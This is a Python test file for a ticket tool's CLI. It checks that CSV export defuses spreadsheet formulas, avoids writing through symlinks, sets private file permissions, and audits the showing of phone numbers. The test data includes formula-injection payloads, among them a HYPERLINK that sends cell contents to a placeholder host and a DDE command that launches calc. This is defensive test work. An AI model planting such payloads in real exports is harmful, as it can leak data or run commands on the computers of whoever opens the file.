"""Hostile content through the supervisors' commands (issue 14 items 10 and 16), real SQLite store."""

from __future__ import annotations

import asyncio
import csv
import os
import pwd
import stat
from pathlib import Path

import pytest

from model.loading import load_config
from ticketbridge.store import TicketStore
from tests.unit.test_ticket_cli import SHIPPED, rec, run, store_url  # noqa: F401 - the filled store fixture


def _add(url: str, **kw: object) -> str:
    async def go() -> str:
        st = TicketStore(url, load_config(SHIPPED))
        await st.open()
        try:
            return (await st.save_call(rec("evil.1", **kw))).ticket_no
        finally:
            await st.close()
    return asyncio.run(go())


def test_export_makes_formula_cells_inert_and_the_file_private(store_url: dict[str, str], tmp_path: Path) -> None:
    """Cells starting with = + - @ are formulas to a spreadsheet; the file holds personal data (was 0644)."""
    no = _add(store_url["url"], category='=HYPERLINK("http://x/?"&A1,"ok")', queue="@SUM(1+1)",
              agent="-2+3", legacy_line="+cmd|' /C calc'!A0")
    out = tmp_path / "t.csv"
    out.write_text("old")
    os.chmod(out, 0o644)
    r = run("tickets", "export", "--csv", str(out), "--store", store_url["url"], "--show-numbers")
    assert r.exit_code == 0, r.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    rows = {r["ticket_no"]: r for r in csv.DictReader(out.open(encoding="utf-8-sig"))}
    row = rows[no]
    assert row["category"] == "'=HYPERLINK(\"http://x/?\"&A1,\"ok\")" and row["queue"] == "'@SUM(1+1)"
    assert row["agent"] == "'-2+3" and row["legacy_line"].startswith("'+cmd")
    assert rows[store_url["answered"]]["caller"] == "13912345678"  # plain values unchanged
    fresh = tmp_path / "new.csv"
    assert run("tickets", "export", "--csv", str(fresh), "--store", store_url["url"]).exit_code == 0
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600


def test_export_refuses_to_write_through_a_symlink(store_url: dict[str, str], tmp_path: Path) -> None:
    target = tmp_path / "elsewhere"
    target.write_text("keep")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    r = run("tickets", "export", "--csv", str(link), "--store", store_url["url"])
    assert r.exit_code == 1 and target.read_text() == "keep"


def _audit(url: str) -> list:
    async def go() -> list:
        st = TicketStore(url, load_config(SHIPPED))
        await st.open()
        try:
            return await st.audit_entries()
        finally:
            await st.close()
    return asyncio.run(go())


def test_show_numbers_is_audited_durably_with_the_real_uid(store_url: dict[str, str], tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """It was a log line on the user's own stderr, with the user name from $LOGNAME (anyone can set it)."""
    monkeypatch.setenv("LOGNAME", "somebody-else")
    monkeypatch.setenv("USER", "somebody-else")
    url = store_url["url"]
    assert run("tickets", "list", "--store", url).exit_code == 0
    assert _audit(url) == []  # masked numbers: nothing to audit
    assert run("tickets", "list", "--store", url, "--show-numbers", "--outcome", "answered").exit_code == 0
    assert run("tickets", "show", store_url["answered"], "--store", url, "--show-numbers").exit_code == 0
    assert run("tickets", "export", "--csv", str(tmp_path / "x.csv"), "--store", url, "--show-numbers").exit_code == 0
    assert run("tickets", "callbacks", "--store", url, "--show-numbers").exit_code == 0
    entries = list(reversed(_audit(url)))
    assert [e.action for e in entries] == ["tickets list", "tickets show", "tickets export", "tickets callbacks"]
    assert all(e.uid == os.getuid() and e.user == pwd.getpwuid(os.getuid()).pw_name for e in entries)
    assert entries[0].asked["outcome"] == "answered" and entries[0].rows == 1
    assert entries[1].asked == {"ticket_no": store_url["answered"]} and entries[1].rows == 1
    assert entries[2].rows == 3 and entries[3].rows == 2


def test_show_numbers_shows_nothing_when_the_audit_cannot_be_written(store_url: dict[str, str],
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    async def broken(*a: object, **k: object) -> None:
        raise PermissionError("read-only role")

    monkeypatch.setattr(TicketStore, "audit", broken)
    r = run("tickets", "list", "--store", store_url["url"], "--show-numbers")
    assert r.exit_code == 3 and "13912345678" not in r.output and "audit" in r.output
